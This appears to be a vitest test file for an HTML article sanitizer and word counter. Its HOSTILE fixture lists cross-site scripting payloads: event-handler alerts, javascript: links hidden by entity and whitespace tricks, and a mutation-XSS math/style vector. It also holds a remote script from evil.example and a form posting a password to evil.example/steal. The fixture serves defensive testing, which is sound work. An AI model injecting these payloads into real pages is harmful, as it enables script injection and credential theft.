import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { countWords, sanitizeArticle } from "../../src/archive/sanitize.ts";

const BASE = "https://news.example/2024/story.html";
const LOCAL = "0123456789abcdef0123456789abcdef.webp";

function sanitize(html: string): string {
  return sanitizeArticle(html, { baseUrl: BASE });
}

/** The sanitized HTML as a browser would parse it. */
function parse(html: string): DocumentFragment {
  return JSDOM.fragment(html);
}

const HOSTILE = `
<p id="clobber" name="forms" class="x" style="position:fixed" onclick="alert(1)">Hello <b onmouseover="alert(2)">there</b></p>
<script>alert(3)</script><script src="https://evil.example/x.js"></script>
<style>body { display: none }</style>
<img src="https://evil.example/track.png" onerror="alert(4)" alt="remote">
<img src="x" onerror=alert(5)>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>alert(6)</script>"></iframe>
<svg onload="alert(7)"><title>icon</title><a href="javascript:alert(8)"><text>svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></mglyph></table></mtext></math>
<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(10)">Go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:alert(11)">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<template><p>hidden template</p><script>alert(12)</script></template>
<object data="https://evil.example/x.swf"><param name="src" value="x"></object><embed src="https://evil.example/y.swf">
<noscript><p>noscript text</p></noscript>
<a href="javascript:alert(13)">js</a>
<a href="JaVaScRiPt:alert(14)">mixed case</a>
<a href="java&#x09;script:alert(15)">tab entity</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(16)">decimal entities</a>
<a href="javascript&colon;alert(17)">named colon</a>
<a href="  &#x0A;javascript:alert(18)">leading whitespace</a>
<a href="vbscript:msgbox(19)">vb</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMCk8L3NjcmlwdD4=">data</a>
<a href="/next" target="_blank" rel="opener" id="x2">next</a>
<img src="${LOCAL}" alt="local" width="640" height="480" onload="alert(21)">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data">
<img src="//evil.example/${LOCAL}" alt="protocol-relative">
<input type="image" src="x" onerror="alert(22)">
<textarea><img src=x onerror=alert(23)></textarea>
<details open ontoggle="alert(24)"><summary>More</summary>details text</details>
`;

describe("sanitizeArticle", () => {
  const out = sanitize(HOSTILE);
  const fragment = parse(out);

  it("removes every script-capable element of a hostile page", () => {
    const forbidden =
      "script, style, iframe, object, embed, param, svg, math, form, input, button, textarea, meta, base, link, template, noscript";
    expect(Array.from(fragment.querySelectorAll(forbidden), (e) => e.localName)).toEqual([]);
    expect(out).not.toMatch(/alert\(/);
    expect(out).not.toContain("hidden template");
    expect(out).not.toContain("noscript text");
  });

  it("removes event handlers, style, id, name and class attributes", () => {
    for (const element of fragment.querySelectorAll("*")) {
      for (const attribute of Array.from(element.attributes)) {
        expect(attribute.name, `${element.localName}[${attribute.name}]`).not.toMatch(/^(on|style$|id$|name$|class$|target$)/);
      }
    }
    expect(fragment.querySelector("p")?.outerHTML).toBe("<p>Hello <b>there</b></p>");
  });

  it("keeps a code block's language class, and no other class on code or elsewhere", () => {
    const out = sanitize('<pre><code class="language-c++ hljs x">a</code></pre><p class="language-js">b</p><code class="language-js&quot;x">c</code>');
    expect(out).toBe('<pre><code class="language-c++">a</code></pre><p>b</p><code>c</code>');
  });

  it("turns javascript:, vbscript: and data: links into plain text, however they are disguised", () => {
    const hrefs = Array.from(fragment.querySelectorAll("a[href]"), (a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://news.example/next"]);
    for (const text of ["js", "mixed case", "tab entity", "decimal entities", "named colon", "leading whitespace", "vb", "data"]) {
      expect(out).toContain(`<span>${text}</span>`);
    }
  });

  it("gives links rel=noopener noreferrer nofollow and makes relative ones absolute", () => {
    const html = sanitize(
      '<a href="/about" rel="opener">About</a> <a href="../up.html">Up</a> <a href="?page=2">Next</a> ' +
        '<a href="//cdn.example/x">CDN</a> <a href="mailto:editor@news.example">Mail</a>',
    );
    const links = Array.from(parse(html).querySelectorAll("a"), (a) => [a.getAttribute("href"), a.getAttribute("rel")]);
    const rel = "noopener noreferrer nofollow";
    expect(links).toEqual([
      ["https://news.example/about", rel],
      ["https://news.example/up.html", rel],
      ["https://news.example/2024/story.html?page=2", rel],
      ["https://cdn.example/x", rel],
      ["mailto:editor@news.example", rel],
    ]);
  });

  it("turns fragment-only links into text, since the ids they point to are removed", () => {
    expect(sanitize('<p>See <a href="#note-1">note 1</a>.</p><p id="note-1">Note.</p>')).toBe(
      "<p>See <span>note 1</span>.</p><p>Note.</p>",
    );
  });

  it("keeps a local image file name and drops remote, data: and protocol-relative sources but keeps their alt", () => {
    const images = Array.from(fragment.querySelectorAll("img"), (img) => [img.getAttribute("src"), img.getAttribute("alt")]);
    expect(images).toEqual([
      [null, "remote"],
      [LOCAL, "local"],
      [null, "inline data"],
      [null, "protocol-relative"],
    ]);
    expect(fragment.querySelector(`img[src="${LOCAL}"]`)?.getAttribute("width")).toBe("640");
  });

  it("drops an image left with neither a source nor alt text", () => {
    expect(sanitize('<p>a<img src="https://evil.example/x.png">b<img src="https://evil.example/y.png" alt="">c</p>')).toBe(
      "<p>abc</p>",
    );
  });

  it("keeps template syntax inert but reading the same", () => {
    const html = sanitize("<p>{{ 7 * 7 }} and {% raw %}{# note #}</p><pre><code>{{ site.secret }}</code></pre>");
    expect(html).not.toMatch(/[{}]/);
    const text = parse(html).textContent;
    expect(text).toBe("{{ 7 * 7 }} and {% raw %}{# note #}{{ site.secret }}");
  });

  it("breaks template delimiters in attribute values and link URLs without changing what they say", () => {
    const html = sanitize('<img alt="{{ 7 * 7 }}"><a href="/search?q={{x}}" title="{% raw %}">x</a>');
    expect(html).not.toMatch(/\{\{|\}\}|\{%|%\}/);
    const fragment = parse(html);
    expect(fragment.querySelector("img")?.getAttribute("alt")?.replace(/\u200B/g, "")).toBe("{{ 7 * 7 }}");
    expect(fragment.querySelector("a")?.getAttribute("href")).toBe("https://news.example/search?q=%7B%7Bx%7D%7D");
  });

  it("does not double-escape text that contains entities", () => {
    const html = sanitize("<p>Fish &amp; chips &lt;3 &quot;quoted&quot; caf&eacute; &#123;</p>");
    expect(parse(html).textContent).toBe('Fish & chips <3 "quoted" café {');
  });

  it("keeps the article structure: headings, lists, tables, figures, quotes and code", () => {
    const html =
      "<h2>Title</h2><ul><li>one</li></ul><ol start=\"3\" type=\"i\"><li>three</li></ol>" +
      '<table><caption>Data</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2" rowspan="x">1</td></tr></tbody></table>' +
      `<figure><img src="${LOCAL}" alt="Chart"><figcaption>Chart</figcaption></figure>` +
      '<blockquote cite="/source"><p>Quote</p></blockquote><pre><code>let x = 1;</code></pre>' +
      '<p><abbr title="HyperText">HTML</abbr> <time datetime="2024-05-02">May 2</time> <strike>old</strike></p>';
    expect(sanitize(html)).toBe(
      "<h2>Title</h2><ul><li>one</li></ul><ol start=\"3\" type=\"i\"><li>three</li></ol>" +
        '<table><caption>Data</caption><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>' +
        `<figure><img src="${LOCAL}" alt="Chart" /><figcaption>Chart</figcaption></figure>` +
        '<blockquote cite="https://news.example/source"><p>Quote</p></blockquote><pre><code>let x = 1;</code></pre>' +
        '<p><abbr title="HyperText">HTML</abbr> <time datetime="2024-05-02">May 2</time> <s>old</s></p>',
    );
  });

  it("keeps lang and a valid dir, and drops anything else in them", () => {
    expect(sanitize('<p lang="fr" dir="RTL">a</p><p lang="x y" dir="sideways">b</p>')).toBe(
      '<p lang="fr" dir="rtl">a</p><p>b</p>',
    );
  });
});

describe("countWords", () => {
  it("counts words across tags, separating block elements but not inline ones", () => {
    expect(countWords("<h1>Two words</h1><p>Three <b>more</b> words</p><p>con<em>cat</em>enated</p>")).toBe(6);
  });

  it("decodes entities, including the braces sanitizeArticle encodes", () => {
    expect(countWords(sanitizeArticle("<p>Fish &amp; chips {{ seven }}</p>", { baseUrl: BASE }))).toBe(3);
  });

  it("counts words in Japanese, which has no spaces between them", () => {
    expect(countWords("<p>日本語の文章です。</p>")).toBeGreaterThanOrEqual(3);
  });

  it("is zero for markup without text", () => {
    expect(countWords(`<figure><img src="${LOCAL}" alt=""></figure>`)).toBe(0);
  });
});
